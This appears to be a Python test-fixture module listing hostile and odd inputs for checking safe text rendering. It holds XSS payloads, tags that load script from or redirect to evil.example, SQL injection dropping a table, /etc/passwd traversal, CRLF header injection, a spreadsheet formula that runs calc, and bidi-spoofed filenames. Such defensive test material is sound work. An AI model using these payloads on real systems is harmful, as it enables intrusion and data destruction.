"""What a person or a program may write to play a trick on the page, the log or the next reader."""

from __future__ import annotations

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "</p></li></ol><script src=//evil.example/x.js></script>",
    "<svg/onload=alert(1)>",
    '"><iframe src="javascript:alert(1)"></iframe>',
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{display:none}</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><button>Göndərmək</button></form>",
    "<textarea><!-- ]]> --></title></style></script>",
    "&lt;script&gt;&#x3c;b&#x3e;&amp;amp;",
    "{{7*7}} {% raw %} ${7*7} #{7*7} %s %n {0} {name}",
    "javascript:alert(1)//'\"`--></noscript>",
)
INVISIBLE = (
    "abc\x00def",
    "\x00" * 100,
    "ad\u202egpj.exe",
    "\u2066\u2067\u2068ters\u2069",
    "1\u200bA\u200cB\u200d2\ufeffC\u2060",
    "\u061c\u200e\u200fsalam",
    "a" + "\u0301" * 500,
    "\u00adgizli\u00ad",
    "\U000e0041\U000e0042tag",
    "\ud800 tək",
    "\x1b[31mqırmızı\x1b[0m",
    "bir\r\niki\u2028üç\u0085dörd",
    "\x07\x08\x7f\x80\x9f",
)
ODD = (
    "FİN" * 300,
    "a" * 4096,
    "🧑🏽‍💻" * 50,
    "ə ğ ı ö ü ş ç Ə Ğ I İ Ö Ü Ş Ç",
    "Щ" * 4096,
    "' OR 1=1; DROP TABLE conversation; --",
    "../../../../etc/passwd",
    "%00%0d%0aSet-Cookie: x=1",
    "=cmd|' /C calc'!A0",
    "0" * 400,
    "9" * 400,
    "-1e309",
    "٣ ٤ ٥",
    "\u3164\u2800",
)
EVERYTHING = MARKUP + INVISIBLE + ODD
UNSEEN = frozenset(
    [chr(code) for code in (*range(0x09), *range(0x0B, 0x20), *range(0x7F, 0xA0))]
    + list("\u00ad\u061c\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u2060\ufeff")
    + [chr(code) for code in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE0080))]
)
"""Characters that must never reach a page."""
